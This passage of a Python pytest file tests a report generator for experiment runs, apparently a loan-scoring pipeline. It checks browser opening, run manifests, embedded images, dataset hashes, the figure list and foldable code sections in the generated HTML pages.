    opened, has_browser = [], [True, True, True, False]
    monkeypatch.setattr("webbrowser.open", lambda url: opened.append(url) or has_browser.pop(0))

    def run(*arguments):
        return main(SMALL, tmp_path, "Small", argv=["--open", "--quiet", *arguments])

    assert run() == 0
    index = tmp_path / "experiments/index.html"
    assert opened == [index.as_uri()]
    (told,) = manifests(tmp_path)
    assert told["stages"][1]["picture"] == {"file": "2_show.headline.png", "alt": "a <dot>"}
    assert list(told["figures"]) == ["z", "a"]  # in the order in which they were named
    assert [stage["verdict"] for stage in told["stages"]] == ["", "stop"]
    assert '<p class="verdict stop">It is so.</p>' in index.read_text("utf-8")
    folder = tmp_path / "experiments/runs" / told["id"]
    assert (folder / "2_show.headline.png").read_bytes() == base64.b64decode(PIXEL)
    shown = {"src": f"data:image/png;base64,{PIXEL}", "alt": "a <dot>"}
    assert Page(index).all("img") == [shown]
    assert f"runs/{told['id']}/map.html" in Page(index).hrefs()

    # sha256 of the three letters; 2_show reads a copy, and was made from the same
    hash = hashlib.sha256(b"raw").hexdigest()
    first, second = (Page(folder / f"{stage}.html").source for stage in ("1_split", "2_show"))
    raw = f'<code class="set" title="data/raw.csv, sha256 {hash}">raw.csv {hash[:8]}</code>'
    assert all(raw in page for page in (first, second, index.read_text("utf-8")))
    assert "train.csv, sha256" not in first
    assert f'title="data/train.csv, sha256 {hash}"' in second
    for page in first, second:
        assert '<a href="map.html" data-of-run="map.html">Big map</a>' in page

    index.unlink()
    assert run() == 0 and len(opened) == 2 and index.exists()  # nothing to do
    assert run("--set", "fails=True") == 1 and len(opened) == 3
    assert "first line\nsecond line" in index.read_text("utf-8")
    capsys.readouterr()
    assert run("--from", "2") == 0
    assert f"no browser to open {index} with" in capsys.readouterr().err
    assert Page(index).all("img") == [shown]


def test_the_projects_own_index_has_its_figures_and_its_picture(finished):
    project, _ = finished
    index = project / "experiments/index.html"
    (run,) = read_runs(index.parent)
    assert [*run.figures] == [
        "loans",
        "bad rate",
        "champion",
        "ROC-AUC, cross-validated",
        "cut-off",
        "model version",
        "ROC-AUC, test",
        "cost per applicant, test",
        "gate",
        "version in production",
        "most important",
        "share of declined with recourse",
        "segments confirmed",
        "champion's share of wins",
    ]
    validation = json.loads((index.parent / "validation.json").read_text("utf-8"))
    assert run.figures["gate"].value.startswith("passed") is validation["promoted"]
    (picture,) = pictures_of(run)
    assert picture.alt == f"ROC curve on the test set, area {run.figures['ROC-AUC, test']}."
    for page in [index, *(run.folder / stage.report for stage in run.stages)]:
        assert_inert(Page(page))
        assert page.stat().st_size < 3_000_000


def test_code_is_folded_until_a_reader_asks_for_it(a_report, tmp_path, browser):
    with visit(browser, tmp_path / "02_preparation.html") as page:
        code = page.get_by_text("plot(loans)")
        assert not code.is_visible()
        page.locator("summary", has_text="Code").first.click()
        assert code.is_visible()
        toggle = page.get_by_role("button", name="Show code")
        toggle.click()
        assert page.get_by_text("seed = 11", exact=True).last.is_visible()
        page.reload()
        assert code.is_visible()  # it is remembered
        page.get_by_role("button", name="Hide code").press("Enter")
        assert not code.is_visible()
